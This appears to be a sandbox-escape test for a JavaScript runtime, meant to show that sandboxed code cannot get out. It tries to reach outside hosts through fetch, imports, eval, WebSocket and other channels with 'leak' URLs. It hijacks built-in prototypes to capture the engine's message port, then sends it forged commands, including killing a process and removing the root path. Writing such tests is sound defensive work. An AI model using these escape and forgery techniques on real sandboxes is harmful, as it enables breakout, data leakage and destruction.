/** Lab code that tries to get out. Each attempt reports what it got; all of them together must be nothing. */
const [own, outside] = [process.env.OWN, process.env.OUTSIDE];
const attempts = {};
const tried = async (name, attempt) => {
  try {
    const got = await Promise.race([
      attempt(),
      new Promise((resolve) => setTimeout(resolve, 400, 'nothing in time')),
    ]);
    attempts[name] = `got ${typeof got === 'string' ? got : typeof got}`;
  } catch (error) {
    attempts[name] = `failed ${error?.name}`;
  }
};
/** Code of the browser's, which no module system of ours looks at. */
const raw = (code) => new Function(`return (async () => { ${code} })()`)();

for (const name of [
  'localStorage',
  'sessionStorage',
  'indexedDB',
  'caches',
  'cookieStore',
  'BroadcastChannel',
  'importScripts',
  'XMLHttpRequest',
  'WebSocket',
  'WebSocketStream',
  'WebTransport',
  'EventSource',
  'Worker',
  'SharedWorker',
  'postMessage',
  'onmessage',
  'close',
  'self',
  'window',
  'parent',
  'top',
  'opener',
  'document',
  'location',
  'origin',
  'addEventListener',
  'FileReaderSync',
  'Notification',
  'RTCPeerConnection',
  'fetchLater',
  'serviceWorker',
])
  await tried(`name ${name}`, () => typeof globalThis[name]);
await tried('prototype chain', () => {
  const found = [];
  for (
    let owner = Object.getPrototypeOf(globalThis);
    owner && owner !== Object.prototype;
    owner = Object.getPrototypeOf(owner)
  ) {
    if (owner === EventTarget.prototype) continue;
    found.push(...Object.getOwnPropertyNames(owner).filter((name) => name !== 'constructor'));
  }
  return found
    .filter(
      (name) =>
        ![
          'performance',
          'atob',
          'btoa',
          'structuredClone',
          'queueMicrotask',
          'TEMPORARY',
          'PERSISTENT',
        ].includes(name),
    )
    .join();
});
await tried('navigator', () => Object.keys(navigator).sort().join());
await tried(
  'navigator storage',
  () => typeof navigator.storage + typeof navigator.serviceWorker + typeof navigator.locks,
);

for (const [where, base] of [
  ['own site', own],
  ['outside', outside],
]) {
  await tried(`${where}: fetch`, () => fetch(`${base}/fetch?leak=1`));
  await tried(`${where}: import`, () => import(`${base}/import.js?leak=1`));
  await tried(`${where}: browser's import`, () => raw(`return import('${base}/raw-import.js?leak=1')`));
  // oxlint-disable-next-line no-eval
  await tried(`${where}: eval import`, () => (0, eval)(`import('${base}/eval-import.js?leak=1')`));
  await tried(`${where}: blob import`, () => {
    const code = `import '${base}/in-blob.js?leak=1'; export default 1`;
    return raw(`return import('${URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))}')`);
  });
  await tried(`${where}: importScripts`, () => importScripts(`${base}/scripts.js?leak=1`));
  await tried(`${where}: WebSocket`, () => new WebSocket(base.replace('http', 'ws')));
  await tried(`${where}: XMLHttpRequest`, () => {
    const request = new XMLHttpRequest();
    request.open('GET', `${base}/xhr?leak=1`, false);
    request.send();
    return request.responseText;
  });
  await tried(`${where}: http`, async () => {
    const { get } = await import('node:http');
    return new Promise((resolve, reject) => get(`${base}/http?leak=1`, resolve).on('error', reject));
  });
  await tried(`${where}: wasm streaming`, () =>
    WebAssembly.instantiateStreaming(fetch(`${base}/x.wasm?leak=1`)),
  );
  await tried(
    `${where}: Response`,
    () => Response.redirect(`${base}/redirect?leak=1`).status === 302 && 'only an object',
  );
}
await tried('data import', () => raw(`return import('data:text/javascript,export default 1')`));

// What a forger would do: catch the engine's own channel on its way through a built-in.
const caught = [];
for (const [owner, name] of [
  [MessagePort.prototype, 'postMessage'],
  [EventTarget.prototype, 'addEventListener'],
  [EventTarget.prototype, 'dispatchEvent'],
  [Function.prototype, 'call'],
  [Function.prototype, 'apply'],
  [Array.prototype, 'push'],
  [Map.prototype, 'get'],
  [Map.prototype, 'set'],
  [Promise.prototype, 'then'],
]) {
  const original = owner[name];
  owner[name] = function (...args) {
    for (const value of [this, ...args]) if (value instanceof MessagePort) caught.push(value);
    return Reflect.apply(original, this, args);
  };
}
const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
Object.defineProperty(MessageEvent.prototype, 'data', {
  ...data,
  get() {
    caught.push(this.target);
    return data.get.call(this);
  },
});
console.log('a line that goes over the channel');
const fs = await import('node:fs/promises');
await fs.writeFile('/written.txt', 'over the channel as well');
await crypto.subtle.digest('SHA-256', new Uint8Array(1));
await new Promise((resolve) => setTimeout(resolve, 20));
const forged = [
  { type: 'exit', code: 0 },
  { type: 'output', text: 'FORGED' },
  { type: 'listen', id: 1, port: 1 },
  { type: 'request', id: 1, method: 'process.kill', params: { machine: 1, pid: 100 } },
  { type: 'file', id: 1, operation: { op: 'remove', path: '/', at: 0 } },
  { type: 'answer', id: 1 },
  null,
  'text',
  7,
];
for (const port of caught)
  for (const message of forged) {
    try {
      port.postMessage?.(message);
    } catch {}
  }
attempts['channel caught'] = `got ${caught.length}`;
process.stdout.write(`REPORT ${JSON.stringify(attempts)}\n`);
process.exit(0);
